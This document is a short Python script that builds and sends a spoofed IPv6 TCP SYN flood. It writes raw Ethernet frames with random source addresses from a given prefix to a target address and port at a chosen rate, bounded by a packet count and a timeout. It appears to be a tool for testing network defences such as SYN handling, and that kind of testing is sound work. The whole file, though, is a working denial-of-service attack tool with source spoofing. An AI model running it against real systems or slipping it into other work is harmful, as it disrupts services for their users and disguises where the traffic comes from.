#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""A spoofed IPv6 SYN flood on one interface (hping3 has no IPv6): COUNT SYNs with an MSS
option to VIP:PORT, each from a random source inside SOURCES (a /64 or longer) and a random
port, written as raw Ethernet frames to DST_MAC at about RATE frames/s. Deterministic from SEED.
Bounded by COUNT and by TIMEOUT seconds. Prints one JSON object: sent, seconds.

usage: synflood6.py IFACE DST_MAC VIP PORT COUNT RATE SOURCES [SEED] [TIMEOUT]
"""
import ipaddress
import json
import random
import socket
import struct
import sys
import time

IFACE, DST_MAC, VIP = sys.argv[1], sys.argv[2], sys.argv[3]
PORT, COUNT, RATE = int(sys.argv[4]), int(sys.argv[5]), float(sys.argv[6])
SOURCES = ipaddress.IPv6Network(sys.argv[7])
SEED = int(sys.argv[8]) if len(sys.argv) > 8 else 1
TIMEOUT = float(sys.argv[9]) if len(sys.argv) > 9 else 30.0
BATCH = 100  # frames between pacing checks


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def mac(text):
    return bytes(int(x, 16) for x in text.split(":"))


def syn_frame(eth, src, dst, sport, seq):
    opts = struct.pack("!BBH", 2, 4, 1440)  # MSS
    tcp = struct.pack("!HHIIBBHHH", sport, PORT, seq, 0, (5 + 1) << 4, 0x02, 64240, 0, 0) + opts
    pseudo = src + dst + struct.pack("!IxxxB", len(tcp), 6)
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip6 = struct.pack("!IHBB", 6 << 28, len(tcp), 6, 64) + src + dst
    return eth + ip6 + tcp


def main():
    rng = random.Random(SEED)
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((IFACE, 0))
    own = open("/sys/class/net/%s/address" % IFACE).read().strip()
    eth = mac(DST_MAC) + mac(own) + struct.pack("!H", 0x86DD)
    dst = ipaddress.IPv6Address(VIP).packed
    base, span = int(SOURCES.network_address), SOURCES.num_addresses
    start = time.monotonic()
    sent = 0
    while sent < COUNT and time.monotonic() - start < TIMEOUT:
        for _ in range(min(BATCH, COUNT - sent)):
            src = ipaddress.IPv6Address(base + rng.randrange(1, span)).packed
            sock.send(syn_frame(eth, src, dst, rng.randrange(1024, 65536), rng.getrandbits(32)))
            sent += 1
        ahead = sent / RATE - (time.monotonic() - start)
        if ahead > 0:
            time.sleep(ahead)
    print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - start, 3)}))


if __name__ == "__main__":
    main()
